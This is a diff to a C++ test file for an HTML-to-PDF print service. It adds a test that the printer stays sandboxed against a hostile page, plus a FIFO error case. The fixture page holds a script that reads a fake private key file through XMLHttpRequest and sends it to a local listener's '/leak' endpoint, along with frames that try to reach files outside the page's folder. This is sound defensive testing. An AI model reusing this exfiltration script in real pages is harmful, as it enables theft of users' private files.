@@ -5,11 +5,13 @@
 // in the build folder.
 #include <unistd.h>
 #include <gtest/gtest.h>
+#include <sys/stat.h>
 
 #include <algorithm>
 #include <optional>
 #include <sstream>
 
+#include "tests/FreePort.h"
 #include "tests/ServiceProcess.h"
 #include "tests/ShellCommand.h"
 #include "tests/TestFiles.h"
@@ -148,12 +150,89 @@ TEST_F(PrintTest, AStartWithoutAWindowPrintsItsJobsInOrderAndEnds) {
     EXPECT_TRUE(fs::exists(kScreenshots / "print-page.png"));
 }
 
+// A page that tries to read the user's files and send them out prints its own text and nothing else: no
+// script of it runs, it reads files of its own folder and below only (a link there that leads out
+// included), and it reaches no other host. Its own pictures and style sheets still print.
+TEST_F(PrintTest, AHostilePagePrintsOnlyItselfAndReachesNothingOutside) {
+    CSilentLoopbackServer listener;
+    ASSERT_GT(listener.Port(), 0);
+    const std::string host = "http://127.0.0.1:" + std::to_string(listener.Port());
+    for (const char* name : {"id_rsa", "id_rsa2", "id_rsa3", "id_rsa4"})
+        WriteFile(m_dir / "private" / name, std::string("GEHEIM-") + name + "\n");
+    WriteFile(m_dir / "page" / "teil" / "teil.html", "<p>Unterordner</p>");
+    fs::create_symlink(m_dir / "private" / "id_rsa4", m_dir / "page" / "link.txt");
+    WriteFile(m_dir / "page" / "seite.css", "h1::after { content: \" [Stil der Seite]\"; }\n");
+    // A one-pixel PNG of the page's folder.
+    const std::string png = CommandOutput(
+        "printf "
+        "'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==' "
+        "| base64 -d");
+    WriteFile(m_dir / "page" / "bild.png", png);
+    const std::string leak = "new Image().src='" + host + "/leak?'+encodeURIComponent(t)";
+    WriteFile(m_dir / "page" / "seite.html",
+              "<html><head><link rel=\"stylesheet\" href=\"seite.css\">"
+              "<link rel=\"stylesheet\" href=\"" +
+                  host +
+                  "/fremd.css\"></head><body>"
+                  "<h1>Eigener Text</h1><img src=\"bild.png\" width=\"96\" height=\"96\">"
+                  "<iframe src=\"teil/teil.html\"></iframe>"
+                  "<iframe src=\"../private/id_rsa\"></iframe>"
+                  "<iframe src=\"file://" +
+                  (m_dir / "private" / "id_rsa2").string() +
+                  "\"></iframe>"
+                  "<object data=\"../private/id_rsa3\" type=\"text/plain\"></object>"
+                  "<iframe src=\"link.txt\"></iframe>"
+                  "<img src=\"" +
+                  host +
+                  "/pixel.png\">"
+                  "<script>document.body.insertAdjacentHTML('beforeend','<p>SKRIPT-LIEF</p>');"
+                  "var x=new XMLHttpRequest();x.open('GET','../private/id_rsa',false);x.send();var "
+                  "t=x.responseText;" +
+                  leak + ";</script></body></html>");
+    ASSERT_EQ(PrintStart({(m_dir / "page" / "seite.html").string(), "*", "*", "0", "*"}, "start.log"), 0);
+    const std::vector<fs::path> pdfs = PrintedPdfs(1);
+    ASSERT_EQ(pdfs.size(), 1u) << ReadFile(m_dir / "start.log");
+    const std::string text = Text(pdfs[0]);
+    EXPECT_NE(text.find("Eigener Text [Stil der Seite]"), std::string::npos) << text;
+    EXPECT_NE(text.find("Unterordner"), std::string::npos)
+        << "a frame of a file below the page's folder" << text;
+    EXPECT_EQ(text.find("GEHEIM"), std::string::npos) << text;
+    EXPECT_EQ(text.find("SKRIPT-LIEF"), std::string::npos) << "no script of the page runs";
+    // The page's own picture, an inch wide at the printer's 300 dots (a refused one may leave the engine's
+    // small broken-image mark beside it).
+    EXPECT_EQ(
+        CommandOutput("pdfimages -list '" + pdfs[0].string() + "' | awk '$4 == 300 && $5 == 300' | wc -l"),
+        "1\n")
+        << CommandOutput("pdfimages -list '" + pdfs[0].string() + "'");
+    EXPECT_FALSE(listener.SomebodyConnected()) << "nothing reached another host";
+}
+
 TEST_F(PrintTest, JobsThatCannotPrintAreTracedAndKeepTheirFiles) {
     const std::string good = Html("gut.html", "<p>Dieser Auftrag kommt durch</p>");
     const std::string toNowhere = Html("nirgends.html", "<p>Kein solcher Drucker</p>");
-    ASSERT_EQ(PrintStart({(m_dir / "fehlt.html").string(), "*", "*", "0", "*",  //
-                          toNowhere, "*", "*", "0", "GibtEsNicht",              //
-                          good, "*", "*", "0", "*"},
+    // A FIFO nobody writes to is no document, and holds up nothing.
+    const std::string pipe = (m_dir / "rohr.html").string();
+    ASSERT_EQ(mkfifo(pipe.c_str(), 0600), 0);
+    ASSERT_EQ(PrintStart({(m_dir / "fehlt.html").string(),
+                          "*",
+                          "*",
+                          "0",
+                          "*",  //
+                          pipe,
+                          "*",
+                          "*",
+                          "0",
+                          "*",  //
+                          toNowhere,
+                          "*",
+                          "*",
+                          "0",
+                          "GibtEsNicht",  //
+                          good,
+                          "*",
+                          "*",
+                          "0",
+                          "*"},
                          "start.log"),
               0);
     const std::vector<fs::path> pdfs = PrintedPdfs(1);
@@ -163,6 +242,7 @@ TEST_F(PrintTest, JobsThatCannotPrintAreTracedAndKeepTheirFiles) {
     EXPECT_NE(log.find("Html Dokument kann nicht gedruckt werden: " + (m_dir / "fehlt.html").string()),
               std::string::npos)
         << log;
+    EXPECT_NE(log.find("Html Dokument kann nicht gedruckt werden: " + pipe), std::string::npos) << log;
     EXPECT_NE(log.find("Html Dokument nicht gedruckt: " + toNowhere + ": Drucker GibtEsNicht"),
               std::string::npos)
         << log;
